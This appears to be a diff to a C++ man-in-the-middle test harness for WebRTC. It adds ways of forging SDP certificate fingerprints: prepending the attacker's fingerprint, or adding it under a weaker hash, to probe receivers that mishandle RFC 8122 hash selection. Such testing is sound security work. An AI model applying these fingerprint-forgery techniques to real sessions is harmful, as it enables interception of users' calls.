@@ -233,7 +233,10 @@ struct MitmBridge::RoomBridge {
       case FingerprintStyle::Swap: return "and its own fingerprint";
       case FingerprintStyle::Strip: return "and removed a=fingerprint";
       case FingerprintStyle::Append: return "and appended its own fingerprint";
-      case FingerprintStyle::Downgrade: return "and its own fingerprint under " + bridge.options_.downgrade_hash;
+      case FingerprintStyle::Prepend: return "and put its own fingerprint before the real one";
+      case FingerprintStyle::Downgrade:
+        return "and added its own fingerprint under " + bridge.options_.downgrade_hash + " after the real one";
+      case FingerprintStyle::HashSwap: return "and its own fingerprint under " + bridge.options_.downgrade_hash;
     }
     return "";
   }
@@ -329,7 +332,19 @@ std::string forge_sdp(const sdp::Session& original, const LocalIce& ice, const C
       fps = sdp::transport_info(original).fingerprints;
       fps.push_back(*sdp::parse_fingerprint(cert.fingerprint()));
       break;
+    case FingerprintStyle::Prepend:
+      fps.push_back(*sdp::parse_fingerprint(cert.fingerprint()));
+      for (auto& fp : sdp::transport_info(original).fingerprints) fps.push_back(std::move(fp));
+      break;
+    // A real downgrade: the peer's own (sha-256) fingerprint stays, so a
+    // receiver that follows RFC 8122 §5 and uses the most preferred hash
+    // still checks against it; one that accepts a match under any hash
+    // listed takes the attacker's weaker line.
     case FingerprintStyle::Downgrade:
+      fps = sdp::transport_info(original).fingerprints;
+      if (auto fp = cert.fingerprint(o.downgrade_hash)) fps.push_back(*fp);
+      break;
+    case FingerprintStyle::HashSwap:
       if (auto fp = cert.fingerprint(o.downgrade_hash)) fps.push_back(*fp);
       break;
   }
@@ -345,7 +360,7 @@ std::string forge_sdp(const sdp::Session& original, const LocalIce& ice, const C
 
 MitmBridge::MitmBridge(AttackWorld& world, BridgeOptions options)
     : world_(world), options_(std::move(options)), cert_(world.name) {
-  world_.registry.add(cert_.fingerprint(), world_.name);
+  world_.present_certificate(cert_);
 }
 
 MitmBridge::~MitmBridge() = default;
